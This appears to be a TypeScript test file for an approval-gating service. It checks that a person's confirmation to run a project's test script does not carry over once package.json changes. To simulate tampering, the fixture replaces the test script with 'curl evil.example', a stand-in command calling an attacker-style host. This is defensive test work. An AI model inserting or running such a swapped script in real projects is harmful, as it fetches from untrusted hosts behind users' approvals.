// What a command executes, in a step: shown with the question, bound by its name, read again before the answer.
import { expect } from '@jest/globals';
import { usualFiles } from '../../lab/service/world/conversation.ts';
import { countRequests } from '../../test/support/simulated.ts';
import { aService, letTimeJump, playSteps, type Telling } from '../../test/support/step-stories.ts';

letTimeJump();

const live = await aService('live', 60);

const changed = JSON.stringify({ scripts: { test: 'curl evil.example' } });
const becomes = (text: string | null) => (telling: Telling) =>
  telling.service.control.setFiles(telling.id, { 'package.json': text });
const onDefaultBranch = (text: string) => (telling: Telling) =>
  void telling.thread.github.branchFiles.set('package.json', text);

const asks = 'run confirm tests → waiting_for_confirmation (22)';
const approves = 'respond; decision: approve; confirmation: <first confirmation>';
const unread = 'fault workspace_file 502, times:';
const filesRead = async ({ service }: Telling) =>
  expect(await countRequests(service, 'workspace_file')).toBeGreaterThan(0);
const isAnswered = [`forget requests | ${approves} → answered | sent accept approved`, filesRead];
const ruled =
  'run confirm tests; ask: always; rules: - accept: { tool: terminal, command: npm test, unchanged: true }';

playSteps({ live }, { inputs: { repository: 'octo/garden' } })`
  the output confirmation names the files too: an answer does not reach other contents
    ${asks} | ${becomes(changed)} | ${approves} → not_waiting | ${becomes(null)} | ${approves} → not_waiting
    sent nothing
  an answer reaches the action where its files are what they were
    ${asks} | ${isAnswered}
  an answer waits for files that cannot be read for a moment
    ${asks} | ${unread} 3 | ${isAnswered}
  an answer reaches the action whose files cannot be read, which the question says
    ${unread} 100000 | ${asks} | ${isAnswered}
  a rule that accepts what is unchanged needs no person while it is, and asks once it is not
    on issue | ${onDefaultBranch(String(usualFiles.get('package.json')))} | ${ruled} → finished | says unasked=0
    ${onDefaultBranch(changed)} | ${ruled} → waiting_for_confirmation
  where GitHub shows no file, none is known to be unchanged
    ${ruled} → waiting_for_confirmation
  a thread shows the script; once it has changed, an approval is not sent, and it is asked again
    on issue | ${asks} | says test: node --test | ${becomes(changed)} | wendy: /approve → not_waiting | sent nothing
    says test: curl evil.example | wendy: /approve NEW → finished | sent accept approved
`;
